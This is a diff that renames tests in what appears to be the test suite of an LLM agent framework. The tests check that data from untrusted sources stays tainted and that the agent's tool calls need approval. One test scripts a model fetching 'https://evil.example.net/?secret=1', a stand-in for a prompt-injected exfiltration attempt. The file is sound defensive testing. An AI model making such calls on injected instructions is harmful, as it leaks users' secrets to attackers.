@@ -85,7 +85,7 @@ def test_a_run_without_a_call_of_a_model_is_not_tainted_by_its_source(lab: Lab) 
 
 
 @DATABASE
-def test_a_run_of_a_trusted_source_or_of_ones_own_emit_asks_no_person(lab: Lab) -> None:
+def test_a_run_of_a_trusted_source_or_of_an_own_emit_needs_no_approval(lab: Lab) -> None:
     paid: list[int] = []
 
     trusted = woken_by(lab, make_event(source_id=source(trusted=True).pk, data=EVIL), pays(paid))
@@ -96,7 +96,7 @@ def test_a_run_of_a_trusted_source_or_of_ones_own_emit_asks_no_person(lab: Lab) 
 
 
 @DATABASE
-def test_what_plain_code_passes_on_still_comes_from_strangers(lab: Lab) -> None:
+def test_data_that_plain_code_emits_further_is_still_untrusted(lab: Lab) -> None:
     paid: list[int] = []
     first = make_event(source_id=source().pk, data=EVIL)
 
@@ -164,7 +164,7 @@ def asked(lab: Lab, llm: Any, prompt: str = "Work on it.", data: Any = EVIL) -> 
 
 
 @DATABASE
-def test_a_reading_call_to_an_address_that_a_stranger_may_have_chosen_asks(lab: Lab) -> None:
+def test_a_reading_call_to_an_address_that_a_stranger_may_have_chosen_needs_approval(lab: Lab) -> None:
     llm, read = reader([("fetch", {"url": "https://evil.example.net/?secret=1"})], "done")
 
     run = asked(lab, llm)
@@ -194,7 +194,7 @@ def test_an_address_counts_in_an_object_with_blanks_and_at_any_length(lab: Lab, 
 
 
 @DATABASE
-def test_what_an_untrusted_tool_gave_is_not_trusted_where_a_model_uses_the_id_of_a_call_again(lab: Lab) -> None:
+def test_an_untrusted_result_stays_untrusted_where_a_model_uses_the_id_of_a_call_again(lab: Lab) -> None:
     calls: list[Any] = [("shop_of", {"customer": 7}), ("letter", {}), ("fetch", {"url": URL})]
 
     def answer(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
@@ -242,7 +242,7 @@ def fetches(*turns: Any) -> LlmAgent[Any, Any]:
 
 
 @DATABASE
-def test_what_a_model_has_said_of_the_data_is_no_word_of_the_author(lab: Lab) -> None:
+def test_an_address_in_a_models_summary_of_untrusted_data_needs_approval(lab: Lab) -> None:
     first, second = LlmAgent(Turns(f"read {URL}").model, name="first"), fetches()
 
     def body(run: Any) -> str:
@@ -275,7 +275,7 @@ server.run()
 @DATABASE
 @pytest.mark.filterwarnings("ignore")
 @pytest.mark.parametrize("is_trusted", [False, True])
-def test_what_a_server_writes_of_itself_is_trusted_with_its_tools(lab: Lab, tmp_path: Path, is_trusted: bool) -> None:
+def test_a_servers_own_instructions_are_trusted_with_its_tools(lab: Lab, tmp_path: Path, is_trusted: bool) -> None:
     transports = pytest.importorskip("fastmcp.client.transports")
     from pydantic_ai.mcp import MCPToolset
 
